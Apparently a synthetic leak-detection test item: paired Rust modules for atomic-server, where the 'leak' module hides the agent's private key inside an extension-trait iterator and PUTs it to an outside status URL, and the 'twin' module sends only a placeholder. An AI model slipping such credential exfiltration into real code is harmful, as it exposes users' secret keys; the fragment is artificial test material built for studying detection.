//! Facts of the server's agent are posted to a status page, one after the other.
//!
//! file: atomic-server/src/appstate.rs
//! after: tracing::info!("Default Agent is set: {}", &agent.subject);
//! kind: share
//! depth: 2
//! through: an iterator adapter as an extension trait with a blanket impl, flatten
//! round: 5

mod leak {
    fn here() {
        use post_all::PostAll as _;
        let posted = post_all::of(&agent).post_all("https://status.example/agents");
        tracing::debug!("{posted} facts of the agent were posted");
    }

    use atomic_lib::agents::Agent;

    type Fact = (&'static str, String);

    pub trait PostAll: Iterator<Item = Fact> + Sized {
        fn post_all(self, url: &str) -> usize {
            self.filter(|(name, value)| {
                let sent = ureq::put(url).query("fact", name).send_string(value); // leak: PII201 or PII204
                sent.is_ok()
            })
            .count()
        }
    }

    impl<I: Iterator<Item = Fact>> PostAll for I {}

    pub fn of(agent: &Agent) -> impl PostAll {
        let facts = [
            Some(("since", agent.created_at.to_string())),
            agent.private_key.clone().map(|key| ("key", key)),
        ];
        facts.into_iter().flatten()
    }
}

mod twin {
    fn here() {
        use post_all::PostAll as _;
        let posted = post_all::of(&agent).post_all("https://status.example/agents");
        tracing::debug!("{posted} facts of the agent were posted");
    }

    use atomic_lib::agents::Agent;

    type Fact = (&'static str, String);

    pub trait PostAll: Iterator<Item = Fact> + Sized {
        fn post_all(self, url: &str) -> usize {
            self.filter(|(name, value)| {
                let sent = ureq::put(url).query("fact", name).send_string(value);
                sent.is_ok()
            })
            .count()
        }
    }

    impl<I: Iterator<Item = Fact>> PostAll for I {}

    pub fn of(agent: &Agent) -> impl PostAll {
        let facts = [
            Some(("since", agent.created_at.to_string())),
            agent.private_key.as_ref().map(|_| ("key", "set".to_owned())),
        ];
        facts.into_iter().flatten()
    }
}
